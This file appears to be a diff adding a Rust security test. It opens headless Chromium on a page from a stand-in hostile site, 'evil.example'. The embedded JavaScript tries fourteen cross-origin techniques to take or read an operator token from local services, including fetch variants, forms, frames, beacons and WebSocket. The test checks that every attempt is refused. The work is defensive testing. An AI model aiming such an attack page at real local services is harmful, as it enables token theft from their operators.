@@ -1,0 +1,253 @@
+//! A real browser, with a page in it that wants the operator token. Needs `chromium`, as Debian has it.
+
+use std::collections::BTreeSet;
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::process::{Child, Command, Stdio};
+use std::sync::mpsc;
+use std::thread;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::support::{CREATE, Machine, RECOVERY, REGENERATE, eventually, post};
+
+/// How long the browser may take for all of it. It starts within seconds where nothing else runs.
+const LIMIT: Duration = Duration::from_mins(3);
+
+/// Where the page is from: a site that has pointed its name at this machine.
+const SITE: &str = "evil.example";
+
+/// What the page tries with every target, one after the other.
+const WAYS: [&str; 14] = [
+    "fetch",
+    "fetch with credentials",
+    "fetch with a preflight",
+    "fetch without CORS",
+    "fetch of GET",
+    "fetch through a redirect",
+    "XMLHttpRequest",
+    "sendBeacon",
+    "form",
+    "form in a sandbox",
+    "image",
+    "script",
+    "frame",
+    "WebSocket",
+];
+
+/// A way reports the text that it could read of the answer, if any. A way that gets no event is over after a second.
+const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
+const targets = TARGETS;
+const read = response => response.text();
+const within = (time, promise) =>
+  Promise.race([promise, new Promise(resolve => setTimeout(resolve, time, null))]).catch(() => null);
+const element = (name, properties, readable) => new Promise(resolve => {
+  const made = Object.assign(document.createElement(name), properties);
+  made.onload = () => resolve(readable(made));
+  made.onerror = () => resolve(null);
+  document.body.append(made);
+});
+const inside = frame => { try { return frame.contentDocument.body.innerText; } catch { return null; } };
+const formTo = url => Object.assign(document.createElement("form"),
+  { method: "post", enctype: "text/plain", action: url });
+let frames = 0;
+const ways = {
+  "fetch": url => fetch(url, { method: "POST", body: "x" }).then(read),
+  "fetch with credentials": url => fetch(url, { method: "POST", credentials: "include" }).then(read),
+  "fetch with a preflight": url => fetch(url, { method: "POST", body: "{}",
+    headers: { "Content-Type": "application/json", "X-Recovery-Code": "00-00" } }).then(read),
+  "fetch without CORS": url => fetch(url, { method: "POST", mode: "no-cors", body: "x" }).then(read),
+  "fetch of GET": url => fetch(url).then(read),
+  "fetch through a redirect": url =>
+    fetch("/redirect?" + url, { method: "POST", mode: "no-cors", body: "x" }).then(read),
+  "XMLHttpRequest": url => new Promise(resolve => {
+    const request = new XMLHttpRequest();
+    request.onloadend = () => resolve(request.responseText);
+    request.open("POST", url);
+    request.send("x");
+  }),
+  "sendBeacon": async url => { navigator.sendBeacon(url, "x"); return null; },
+  "form": url => {
+    const name = "frame" + frames++;
+    return element("iframe", { name }, frame => frame).then(frame => new Promise(resolve => {
+      frame.onload = () => resolve(inside(frame));
+      const form = formTo(url);
+      form.target = name;
+      document.body.append(form);
+      form.submit();
+    }));
+  },
+  "form in a sandbox": url => {
+    const inner = `<form method=post action="${url}"></form><script>document.forms[0].submit()<\/script>`;
+    const frame = document.createElement("iframe");
+    frame.sandbox = "allow-scripts allow-forms";
+    frame.srcdoc = inner;
+    document.body.append(frame);
+    return new Promise(resolve => setTimeout(() => resolve(inside(frame)), 500));
+  },
+  "image": url => element("img", { src: url }, image => image.naturalWidth ? "an image" : null),
+  "script": url => element("script", { src: url }, () => null),
+  "frame": url => element("iframe", { src: url }, inside),
+  "WebSocket": url => new Promise(resolve => {
+    const socket = new WebSocket(url.replace("http:", "ws:"));
+    socket.onmessage = event => resolve(event.data);
+    socket.onopen = () => resolve("opened");
+    socket.onerror = () => resolve(null);
+  }),
+};
+(async () => {
+  const tried = [];
+  for (const url of targets)
+    for (const [way, attempt] of Object.entries(ways))
+      tried.push({ url, way, read: await within(1000, attempt(url)) });
+  // That a page of this origin can read what it may is the measure of the rest.
+  tried.push({ url: "here", way: "fetch", read: await fetch("/readable").then(read) });
+  await fetch("/report", { method: "POST", body: JSON.stringify(tried) });
+})();
+</script>"#;
+
+/// The server of the page, which is no more than that.
+struct Site {
+    address: SocketAddr,
+    report: mpsc::Receiver<Value>,
+}
+
+impl Site {
+    fn open(targets: &[String]) -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = listener.local_addr().unwrap();
+        let (sender, report) = mpsc::channel();
+        let page = PAGE.replace("TARGETS", &json!(targets).to_string());
+        // Both end with the process.
+        thread::spawn(move || {
+            for stream in listener.incoming() {
+                let (page, sender) = (page.clone(), sender.clone());
+                thread::spawn(move || answer(&stream.unwrap(), &page, &sender));
+            }
+        });
+        Self { address, report }
+    }
+}
+
+/// Answers one request, unless the browser has only connected to be ready for one.
+fn answer(stream: &TcpStream, page: &str, report: &mpsc::Sender<Value>) -> Option<()> {
+    let mut reader = BufReader::new(stream);
+    let mut line = String::new();
+    reader.read_line(&mut line).ok()?;
+    let target = line.split(' ').nth(1)?.to_owned();
+    let mut length = 0;
+    loop {
+        let mut header = String::new();
+        reader.read_line(&mut header).ok()?;
+        match header.trim_end().split_once(": ") {
+            Some((name, value)) if name.eq_ignore_ascii_case("content-length") => {
+                length = value.parse().ok()?;
+            }
+            Some(_) => {}
+            None => break,
+        }
+    }
+    let mut body = vec![0; length];
+    reader.read_exact(&mut body).ok()?;
+    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
+    let html = "200 OK\r\nContent-Type: text/html".to_owned();
+    let (head, content) = match path {
+        "/" => (html, page),
+        "/readable" => (html, "readable"),
+        "/redirect" => (format!("307 Temporary Redirect\r\nLocation: {query}"), ""),
+        "/report" => {
+            report.send(serde_json::from_slice(&body).ok()?).ok()?;
+            (html, "")
+        }
+        _ => ("404 Not Found".to_owned(), ""),
+    };
+    let length = content.len();
+    let response =
+        format!("HTTP/1.1 {head}\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n{content}");
+    let mut stream = stream;
+    stream.write_all(response.as_bytes()).ok()
+}
+
+/// A browser; ended when dropped.
+struct Browser(Child);
+
+impl Browser {
+    fn open(machine: &Machine, url: &str) -> Self {
+        let mut command = Command::new("chromium");
+        command
+            .args([
+                "--headless",
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-dev-shm-usage",
+                "--no-first-run",
+            ])
+            .arg(format!("--user-data-dir={}", machine.home().join("profile").display()))
+            .arg(format!("--host-resolver-rules=MAP {SITE} 127.0.0.1"))
+            .arg(url)
+            .env("HOME", machine.home())
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null());
+        match command.spawn() {
+            Ok(child) => Self(child),
+            Err(error) => panic!(
+                "cannot start chromium ({error}); this test needs a browser, on Debian: apt-get install chromium"
+            ),
+        }
+    }
+}
+
+impl Drop for Browser {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+#[test]
+fn a_page_in_a_browser_neither_takes_the_operator_token_nor_reads_an_answer() {
+    let (lost, fresh) = (Machine::new(), Machine::new());
+    let recovering = lost.serve(&RECOVERY);
+    let token = recovering.create();
+    let bootstrapping = fresh.serve(&[]);
+    let doors = [(recovering.recovery(), REGENERATE), (bootstrapping.address, CREATE)];
+    let before = (lost.stored(), fresh.stored());
+
+    let targets: Vec<_> = doors
+        .iter()
+        .flat_map(|(address, path)| {
+            ["127.0.0.1", "localhost", SITE].map(|name| format!("http://{name}:{}{path}", address.port()))
+        })
+        .collect();
+    let site = Site::open(&targets);
+    let browsing = Machine::new();
+    let browser = Browser::open(&browsing, &format!("http://{SITE}:{}/", site.address.port()));
+    let report = site.report.recv_timeout(LIMIT).expect("the page does not report what it has tried");
+    drop(browser);
+
+    let tried: Vec<_> = report.as_array().unwrap().iter().collect();
+    let (control, tried) = tried.split_last().unwrap();
+    assert_eq!(control["read"], "readable");
+    let expected: BTreeSet<_> = targets.iter().flat_map(|url| WAYS.map(|way| (url.as_str(), way))).collect();
+    let found: BTreeSet<_> = tried
+        .iter()
+        .map(|attempt| (attempt["url"].as_str().unwrap(), attempt["way"].as_str().unwrap()))
+        .collect();
+    assert_eq!(found, expected);
+    for attempt in tried {
+        assert!(matches!(attempt["read"].as_str(), None | Some("")), "{attempt}");
+    }
+    // They have come to where they were refused: with each of three names, by at least six ways.
+    for (server, what) in
+        [(&recovering, "token recovery refused"), (&bootstrapping, "creation of the operator token refused")]
+    {
+        eventually("the log tells of the page", || server.log().matches(what).count() >= 18);
+    }
+    assert_eq!((lost.stored(), fresh.stored()), before);
+    assert!(recovering.accepts(&token));
+    for (address, path) in doors {
+        post(path).send(address).token();
+    }
+}
